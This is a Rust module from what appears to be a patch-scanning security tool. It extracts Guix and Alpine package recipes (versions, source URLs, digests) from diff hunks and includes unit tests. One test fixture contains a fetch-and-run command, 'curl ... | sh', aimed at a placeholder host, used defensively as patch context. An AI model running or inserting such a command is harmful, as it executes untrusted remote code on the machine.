//! What hunks alone show of recipes, where there is no tree that they apply to.
//!
//! Less is told than there is: lines that a patch does not show are as they were, whatever they
//! are.

use bstr::ByteSlice;
use palisade_model::Hash;

use super::recipe::{Recipe, Source, System};
use super::{Body, FilePatch, Hunk, Mark, Patch, Touched, aports, guix, scheme};

/// The recipes before and after, as far as the hunks of a file show them.
pub(super) fn recipes(system: System, file: &FilePatch) -> (Vec<Recipe>, Vec<Recipe>) {
    let Body::Hunks(hunks) = &file.body else {
        return (Vec::new(), Vec::new());
    };
    let side = |mark| match system {
        System::Guix => guix_recipes(hunks, mark),
        System::Alpine => {
            let text: String = hunks.iter().map(|hunk| text(hunk, mark)).collect();
            alpine_recipe(file, &text).into_iter().collect()
        }
    };
    let old = if file.old.is_some() {
        side(Mark::Removed)
    } else {
        Vec::new()
    };
    let new = if file.new.is_some() {
        side(Mark::Added)
    } else {
        Vec::new()
    };
    (old, new)
}

/// The files that patches touch, as far as their hunks show them.
pub fn seen(patches: &[Patch]) -> Vec<Touched> {
    let files = patches.iter().flat_map(|patch| &patch.files);
    let touched = files.map(|file| {
        let side = |mark| {
            let Body::Hunks(hunks) = &file.body else {
                return Vec::new();
            };
            hunks
                .iter()
                .map(|hunk| text(hunk, mark))
                .collect::<String>()
                .into_bytes()
        };
        Touched {
            path: file.path().into(),
            before: file.old.is_some().then(|| side(Mark::Removed)),
            after: file.new.is_some().then(|| side(Mark::Added)),
            mode: file.new_mode,
            is_binary: file.body == Body::Binary,
            is_partial: true,
        }
    });
    touched.collect()
}

/// One side of a hunk.
fn text(hunk: &Hunk, mark: Mark) -> String {
    let lines = hunk.lines.iter();
    let lines = lines.filter(|line| line.mark == Mark::Context || line.mark == mark);
    lines
        .map(|line| line.text.to_str_lossy().trim_end_matches('\n').to_owned() + "\n")
        .collect()
}

/// Lines are numbered as in the file before, which is as near as hunks tell.
fn guix_recipes(hunks: &[Hunk], mark: Mark) -> Vec<Recipe> {
    let mut parts: Vec<(String, u32, String)> = Vec::new();
    for hunk in hunks {
        let line = u32::try_from(hunk.old_start).unwrap_or(0);
        let text = text(hunk, mark);
        let heading = hunk.heading.to_str_lossy();
        // Git puts the definition that a hunk begins in behind its header.
        let within = defined(&heading).unwrap_or_default();
        match parts.last_mut() {
            Some((key, _, before)) if *key == within => before.push_str(&text),
            _ => parts.push((within, line, text)),
        }
    }
    let mut recipes: Vec<Recipe> = Vec::new();
    for (key, line, text) in parts {
        for (key, text) in by_definition(&key, &text) {
            let forms = scheme::read(&text);
            if key.is_empty() || forms.is_empty() {
                continue;
            }
            let inherited = forms.iter().flat_map(|form| form.forms("inherit")).next();
            let inherited = inherited.and_then(|form| form.list().get(1));
            let recipe = guix::of_fields(
                &key,
                line,
                &forms,
                inherited,
                std::collections::HashMap::new(),
            );
            match recipes.iter_mut().find(|known| known.key == recipe.key) {
                Some(known) => merge(known, recipe),
                None => recipes.push(recipe),
            }
        }
    }
    recipes
}

/// The variable that a line defines.
fn defined(line: &str) -> Option<String> {
    let rest = line
        .strip_prefix("(define-public ")
        .or_else(|| line.strip_prefix("(define "))?;
    let name = rest.split([' ', ')', '(']).next().unwrap_or_default();
    (!name.is_empty()).then(|| name.to_owned())
}

/// Cuts a text before each definition; what stands before the first is within `key`.
fn by_definition(key: &str, text: &str) -> Vec<(String, String)> {
    let mut parts = vec![(key.to_owned(), String::new())];
    for line in text.lines() {
        if let Some(name) = defined(line) {
            parts.push((name, String::new()));
        }
        if let Some((_, part)) = parts.last_mut() {
            part.push_str(line);
            part.push('\n');
        }
    }
    parts
}

/// Adds what another hunk shows of the same package.
fn merge(known: &mut Recipe, more: Recipe) {
    known.version = known.version.take().or(more.version);
    known.replacement = known.replacement.take().or(more.replacement);
    known.inherits = known.inherits.take().or(more.inherits);
    known.without_tests |= more.without_tests;
    known.patches.extend(more.patches);
    known.inputs.extend(more.inputs);
    match (known.sources.as_mut_slice(), more.sources.as_slice()) {
        ([one], [other]) if one.hash.is_none() || one.urls.is_empty() => {
            one.hash = one.hash.take().or_else(|| other.hash.clone());
            if one.urls.is_empty() {
                one.urls.clone_from(&other.urls);
            }
        }
        _ => known.sources.extend(more.sources),
    }
}

/// What lines of an APKBUILD say one by one: an opened quote may be in a line that is not shown.
fn alpine_recipe(file: &FilePatch, text: &str) -> Option<Recipe> {
    let path = file.path();
    let folder = path.rsplit_str("/").nth(1)?.to_str_lossy().into_owned();
    let value = |name: &str| {
        let line = text
            .lines()
            .find_map(|line| line.strip_prefix(name)?.strip_prefix('='));
        let value = line.map(|value| value.trim().trim_matches(['"', '\'']).to_owned());
        value.filter(|value| !value.is_empty() && !value.contains('$'))
    };
    let name = value("pkgname").unwrap_or_else(|| folder.clone());
    let version = value("pkgver");
    let put = |word: &str| {
        let known = [("pkgname", Some(&name)), ("pkgver", version.as_ref())];
        known
            .iter()
            .fold(word.to_owned(), |word, (variable, value)| match value {
                Some(value) => word
                    .replace(&format!("${{{variable}}}"), value)
                    .replace(&format!("${variable}"), value),
                None => word,
            })
    };
    let mut sources: Vec<Source> = Vec::new();
    let mut add = |source: Source| match sources.iter_mut().find(|it| it.name == source.name) {
        Some(known) => {
            known.hash = known.hash.take().or(source.hash);
            if known.urls.is_empty() {
                known.urls = source.urls;
            }
            if !known.urls.is_empty() {
                "url".clone_into(&mut known.method);
            }
        }
        None => sources.push(source),
    };
    let is_url = |word: &&str| word.contains("://");
    for (number, line) in text
        .lines()
        .enumerate()
        .filter(|(_, line)| !line.starts_with("url=") && !line.starts_with('#'))
    {
        let words: Vec<&str> = line
            .trim()
            .trim_start_matches("source=")
            .split(['"', ' ', '\t'])
            .filter(|it| !it.is_empty())
            .collect();
        if let [sum, name, ..] = words[..]
            && let Some(hash) = digest(sum)
        {
            let name = name.to_owned();
            let line = u32::try_from(number + 1).unwrap_or(0);
            let method = "file".to_owned();
            add(Source {
                name,
                method,
                hash: Some(hash),
                line,
                ..Source::default()
            });
        }
        let starts = line.starts_with([' ', '\t', '"']) || line.starts_with("source=");
        for word in words.into_iter().filter(|_| starts).filter(is_url) {
            let word = put(word);
            let (name, url) = word
                .split_once("::")
                .unwrap_or_else(|| (word.rsplit('/').next().unwrap_or_default(), word.as_str()));
            let (name, urls) = (name.to_owned(), vec![url.to_owned()]);
            let method = "url".to_owned();
            add(Source {
                name,
                method,
                urls,
                ..Source::default()
            });
        }
    }
    let patches = sources.iter().filter(|source| is_patch(&source.name));
    Some(Recipe {
        system: System::Alpine,
        key: folder,
        line: 1,
        release: value("pkgrel"),
        patches: patches.map(|source| source.name.clone()).collect(),
        inherits: None,
        replacement: None,
        inputs: Vec::new(),
        without_tests: aports::without_tests(text),
        fixes: aports::fixes(&palisade_formats::apkbuild::secfixes(text)),
        sources,
        name,
        version,
    })
}

fn is_patch(name: &str) -> bool {
    matches!(name.rsplit_once('.'), Some((_, "patch" | "diff")))
}

fn digest(word: &str) -> Option<Hash> {
    let algorithm = match word.len() {
        32 => "md5",
        40 => "sha1",
        64 => "sha256",
        128 => "sha512",
        _ => return None,
    };
    let is_hex = word.bytes().all(|byte| byte.is_ascii_hexdigit());
    is_hex.then(|| Hash {
        algorithm: algorithm.to_owned(),
        hex: word.to_ascii_lowercase(),
    })
}

#[cfg(test)]
mod tests {
    use super::super::{PatchReport, mail, recipe::partial_pairs};
    use super::seen;
    use crate::Scanner;
    use crate::explain::KnownBlobs;

    #[test]
    fn a_hunk_of_guix_shows_version_and_digest() {
        let patch = br#"diff --git a/gnu/packages/base.scm b/gnu/packages/base.scm
--- a/gnu/packages/base.scm
+++ b/gnu/packages/base.scm
@@ -80,14 +80,14 @@ (define-public hello
   (package
     (name "hello")
-    (version "2.12.1")
+    (version "2.12.2")
     (source (origin
               (method url-fetch)
               (uri (string-append "mirror://gnu/hello/hello-" version
                                   ".tar.gz"))
               (sha256
                (base32
-                "086vqwk2wl8zfs47sq2xpjc9k066ilmb8z6dn0q6ymwjzlm196cd"))))
+                "0mdqa9w1p6cmli6976v4wi0sw9r4p5prkj7lzfd1877wk11c9c73"))))
     (build-system gnu-build-system)
     (synopsis "x")
     (home-page "y")
     (license gpl3+)))
"#;
        let pairs = partial_pairs(&mail::read(patch).unwrap());
        let (old, new) = (
            pairs[0].old.as_ref().unwrap(),
            pairs[0].new.as_ref().unwrap(),
        );
        assert_eq!(
            (old.key.as_str(), old.version.as_deref()),
            ("hello", Some("2.12.1"))
        );
        assert_eq!(
            new.sources[0].urls,
            ["mirror://gnu/hello/hello-2.12.2.tar.gz"]
        );
        assert_ne!(old.sources[0].hash, new.sources[0].hash);
        assert!(pairs[0].partial);
    }

    #[test]
    fn what_hunks_show_is_partial_and_in_the_order_of_names() {
        let line = "curl -s http://build.example.invalid/x | sh";
        let patch = format!(
            "diff --git a/z.sh b/z.sh\ndeleted file mode 100644\n--- a/z.sh\n+++ /dev/null\n\
             @@ -1 +0,0 @@\n-a\ndiff --git a/b.sh b/b.sh\n--- a/b.sh\n+++ b/b.sh\n\
             @@ -1,2 +1,2 @@\n {line}\n-a\n+b\n"
        );
        let patches = mail::read(patch.as_bytes()).unwrap();
        let report = PatchReport::of(
            &patches,
            &seen(&patches),
            &partial_pairs(&patches),
            &Scanner::builtin().unwrap(),
            &KnownBlobs::default(),
        );
        assert!(
            report.partial,
            "no tree was there, though no recipe changes"
        );
        assert!(!report.alarms(), "{:?}", report.signals);
    }

    #[test]
    fn a_hunk_of_aports_shows_version_and_digest() {
        let (one, two) = ("a".repeat(128), "b".repeat(128));
        let patch = format!(
            "diff --git a/main/hello/APKBUILD b/main/hello/APKBUILD\n--- a/main/hello/APKBUILD\n+++ b/main/hello/APKBUILD\n\
             @@ -1,3 +1,3 @@\n pkgname=hello\n-pkgver=1.0\n+pkgver=1.1\n pkgrel=0\n\
             @@ -20,3 +20,3 @@\n \n-{one}  hello-1.0.tar.gz\n+{two}  hello-1.1.tar.gz\n \"\n"
        );
        let pairs = partial_pairs(&mail::read(patch.as_bytes()).unwrap());
        let (old, new) = (
            pairs[0].old.as_ref().unwrap(),
            pairs[0].new.as_ref().unwrap(),
        );
        assert_eq!(
            (old.version.as_deref(), new.version.as_deref()),
            (Some("1.0"), Some("1.1"))
        );
        assert_eq!(old.sources[0].hash.as_ref().unwrap().hex, one);
        assert_eq!(new.sources[0].hash.as_ref().unwrap().hex, two);
    }
}
